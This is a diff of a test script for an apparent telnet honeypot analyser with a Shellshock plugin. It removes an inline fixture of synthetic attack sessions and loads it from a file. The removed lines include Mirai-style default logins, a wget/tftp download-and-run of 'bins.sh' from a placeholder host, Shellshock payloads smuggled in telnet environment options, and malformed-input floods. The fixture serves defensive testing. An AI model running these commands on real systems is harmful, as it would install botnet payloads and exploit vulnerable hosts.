@@ -5,68 +5,7 @@ source "$(dirname "$0")/lib.sh"
 hs_setup
 hs_require_plugin shellshock login
 
-hs_gencap telnet <<'EOF'
-time 1411776000
-# A Mirai-style bot on a silent low-interaction honeypot: one line per segment.
-tcp 175.16.199.1:41000 192.0.2.23:23
-c "root\r\n" @m_user
-c "xc3511\r\n" @m_pass
-c "enable\r\n" @m_enable
-c "sh\r\n" @m_sh
-c "/bin/busybox ECCHI\r\n" @m_busybox
-c "cd /tmp; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh\r\n" @m_wget
-c "tftp -g -r x86 198.51.100.9\r\n" @m_tftp
-c "echo -ne '\\x7f\\x45\\x4c\\x46' > .d\r\n" @m_echo
-c "   \r\n" @m_blank
-close
-# An interactive server with prompts; several lines in one segment.
-tcp 81.2.69.160:41001 192.0.2.23:23
-s "\xff\xfd\x18\xff\xfd\x20Ubuntu 14.04 LTS\r\nrouter login: " @i_banner
-c "admin\r\n" @i_user
-s "Password: "
-c "admin\r\n" @i_pass
-s "\r\nLogin incorrect\r\nrouter login: "
-c "support\r\n" @i_user2
-s "Password: "
-c "support\r\n" @i_pass2
-s "\r\nLast login: Fri Sep 26 00:00:00 UTC 2014\r\n$ "
-c "uname -a\r\nping -c 1 198.51.100.7\r\n" @i_two
-close
-# A character-at-a-time client with server echo and a DEL correction.
-tcp 89.160.20.112:41002 192.0.2.23:23
-s "login: "
-c "r"
-s "r"
-c "x"
-s "x"
-c "\x7f"
-s "\x08 \x08"
-c "o"
-s "o"
-c "ot"
-s "ot"
-c "\r\0" @c_user
-s "\r\nPassword: "
-c "123456\r\n" @c_pass
-s "\r\n# "
-c "bash -c 'cat /proc/cpuinfo'\r" @c_cmd
-c "\n"
-close
-# Shellshock in the environment options, before any login.
-tcp 67.43.156.1:41003 192.0.2.23:23
-c "\xff\xfa\x27\x00\x00USER\x01() { :;}; wget http://198.51.100.9/e.sh\xff\xf0" @env
-c "\xff\xfa\x18\x00() { _; } >_[$($())] { id; }\xff\xf0" @ttype
-c "guest\r\n" @env_user
-close
-# Hostile: an endless line, an IAC flood, a sub-negotiation without SE, NULs.
-tcp 81.2.69.160:41004 192.0.2.23:23
-c "A"*20000 @h_long
-c "\r\n" @h_long_end
-c "\xff\xf1"*3000 @h_iac
-c "\xff\xfa\x27\x00\x00X\x01yyy\xff\xfa\x18\x00vt100\xff\xf0" @h_sb
-c "\0\0\0pass\0word\r\n" @h_nul
-close
-EOF
+hs_gencap telnet <"$(dirname "$0")/captures/telnet.gcs"
 
 F=(login.user login.password shellshock.grade shellshock.vector shellshock.command
     shellshock.url shellshock.host shellshock.cve)
